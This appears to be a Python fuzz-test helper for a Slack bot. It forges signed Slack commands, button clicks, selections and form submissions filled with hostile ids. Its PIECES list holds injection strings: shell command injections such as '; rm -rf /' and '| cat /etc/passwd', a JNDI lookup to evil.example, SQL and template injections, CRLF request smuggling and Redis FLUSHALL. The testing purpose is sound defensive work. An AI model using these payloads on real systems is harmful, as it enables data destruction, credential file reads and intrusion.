"""Deliveries with hostile ids and texts in every place where one can stand: typed, pressed, searched for, submitted."""

import json
import random
import secrets
from collections.abc import Sequence
from typing import Any

from bot.slack import acts
from bot.slack.forms import CALLBACK
from bot.slack.grammar import arguments
from bot.slack.registry import Command, Registry
from bot.slack.views import account, asking, parts
from bot.slack.views import reboot as reboot_views
from tests.prove.raw import Request, sign
from tests.slack.foreign import NASTY
from tests.slack.forged import click, command
from tests.slack.test_s6_odd_payloads import body_of, suggestion, view

PIECES = (
    *("..", ".", "../", "../../", "..\\", "/", "//", "%2f", "%2F", "%2e%2e%2f", "%252e", "%5c", "%00", "..;/"),
    *("?", "?page=2", "&per=9", "#", ";", ":80", "@evil.example", "http://evil.example/", "//evil.example"),
    *("\r\n", "\n", "\r", "%0d%0a", "\r\nHost: evil.example", "\r\n\r\nDELETE /api/v1/boxes/x HTTP/1.1\r\n"),
    *("\x00", "\t", "; rm -rf /", "$(id)", "`id`", "| cat /etc/passwd", "&& reboot", "${jndi:ldap://evil.example}"),
    *("{{7*7}}", "__import__('os')", "' OR 1=1 --", '"', "*", "\\x", "EVAL", "\r\nFLUSHALL\r\n", "{}", "%s%n"),
    *("{0.__class__}", "reboot", "me.json", "boxes", "..%c0%af", "file:///etc/passwd", "\u2028", "\u202e", "\ud800"),
    *("\uff0e\uff0e\uff0f", "\u2215", "\u2044", "é", "漢", "\U0001f480", "A" * 201, "9" * 400, "\u00a0", " "),
    *("in", "to", "because", "page 99999", "as", "at", "for"),
)
META = (
    *("access", "batch", "box", "channel", "hurt", "id", "location", "name", "op", "pages", "place", "slug"),
    "voucher",
)
FIELDS = ("name", "email", "location", "box", "zone", "ssid", "key", "password", "tags", "person", "town", "mac")
FORMS = ("typed-name", "typed-reboot", "code", "nothing-of-ours")
PRESSED = (
    *(reboot_views.CONFIRM, reboot_views.CANCEL, reboot_views.FOLLOW, acts.CONFIRM, acts.CANCEL, acts.TYPE),
    *(account.CONNECT, account.ENTER, parts.OPEN, "ct.brand.new"),
)
NOUNS = ("box", "location", "box or location", "command", "batch", "zone", "network", "login page", "colleague", "..")


def hostile_id(dice: random.Random, known: Sequence[str] = ("b1",)) -> str:
    """Something that would like to be more than an id."""
    found = dice.choices(PIECES, k=dice.randrange(1, 4))
    if dice.random() < 0.5:
        found.insert(dice.randrange(len(found) + 1), dice.choice(known))
    if dice.random() < 0.15:
        found.append(dice.choice(NASTY)[:80])
    return "".join(found)


class Forger:
    """Makes deliveries, each signed and of its own; `known`: ids that exist, to hang something on."""

    def __init__(self, dice: random.Random, registry: Registry, known: list[str]) -> None:
        self._dice = dice
        self._commands = [one for one in registry if one.name not in {"link", "unlink"}]
        self._forms = [*registry.forms, *FORMS]
        self.known = known
        self.by_name: dict[str, list[str]] = {}  # what exists under a name, by the noun
        self.asks: dict[str, list[str]] = {}  # open questions, by person: what is picked goes into a command

    def text(self) -> str:
        return hostile_id(self._dice, self.known)

    def any(self, user: str, url: str) -> tuple[str, Request]:
        """(what kind, one delivery)."""
        kind = self._dice.choice(("typed", "typed", "pressed", "picked", "searched", "submitted", "run"))
        payload = getattr(self, f"_{kind}")(user)
        payload["response_url"] = url
        body, _ = body_of(payload)
        raw = body.encode()
        return kind, Request(raw, sign(raw))

    def _command(self) -> str:
        """A command with hostile texts for its arguments, in the places where they are read."""
        wanted: Command = self._dice.choice(self._commands)
        words = [wanted.name]
        for one in arguments(wanted.args):
            if one.positional:
                words.append(self._named(one.label))
            elif one.keyword and self._dice.random() < 0.5:
                words += [one.keyword, self._named(one.label)]
        return " ".join(words)

    def _named(self, label: str) -> str:
        """Something that exists, where its id is what is hostile."""
        found = [name for noun, some in self.by_name.items() if noun in label for name in some]
        return self._dice.choice(found) if found and self._dice.random() < 0.9 else self.text()

    def _typed(self, user: str) -> dict[str, Any]:
        return command(user, self._command().encode(errors="ignore").decode())  # a form holds no lone surrogate

    def _run(self, user: str) -> dict[str, Any]:
        """A button that is a command, whatever it says."""
        return click(user, f"{self._dice.choice((parts.RUN, parts.MENU, parts.SHARE))}:0", self._command())

    def _pressed(self, user: str) -> dict[str, Any]:
        return click(user, self._dice.choice(PRESSED), self.text())

    def _picked(self, user: str) -> dict[str, Any]:
        """What was chosen for an open question."""
        ask = self._dice.choice(self.asks.get(user) or [self.text()])
        chosen = {"type": "external_select", "selected_option": {"value": self.text()}}
        noun = asking.PICK.format(noun=self._dice.choice(NOUNS))
        action = {**chosen, "action_id": noun, "block_id": f"{asking.ASK_BLOCK}{ask}", "action_ts": "1.1"}
        return click(user, "unused", "", actions=[action])

    def _searched(self, user: str) -> dict[str, Any]:
        ask = self._dice.choice(self.asks.get(user) or [self.text()])
        asked = {"action_id": asking.PICK.format(noun=self._dice.choice(NOUNS)), "value": self.text()}
        return {**_by(user, suggestion()), **asked, "block_id": f"{asking.ASK_BLOCK}{ask}"}

    def _submitted(self, user: str) -> dict[str, Any]:
        """A form with hostile texts in its fields, and in what it was about."""
        sent = _by(user, view("view_submission"))
        meta = {name: self._meta(name) for name in META}
        values = {name: {name: {"type": "plain_text_input", "value": self.text()}} for name in FIELDS}
        shown = {"callback_id": f"{CALLBACK}{self._dice.choice(self._forms)}", "private_metadata": _packed(meta)}
        sent["view"] = {**sent["view"], **shown, "state": {"values": values}, "hash": secrets.token_hex(6)}
        return sent

    def _meta(self, name: str) -> str:
        if name == "pages":
            return json.dumps([[self.text()[:60], self.text()[:60]] for _ in range(self._dice.randrange(3))])
        return self._dice.choice(self.known) if self._dice.random() < 0.3 else self.text()[:150]


def _packed(meta: dict[str, str]) -> str:
    """As the bot packs it: characters, no escapes."""
    return json.dumps(meta, ensure_ascii=False).encode(errors="ignore").decode()


def _by(user: str, payload: dict[str, Any]) -> dict[str, Any]:
    return {**payload, "user": {**payload["user"], "id": user}, "trigger_id": secrets.token_hex(8)}
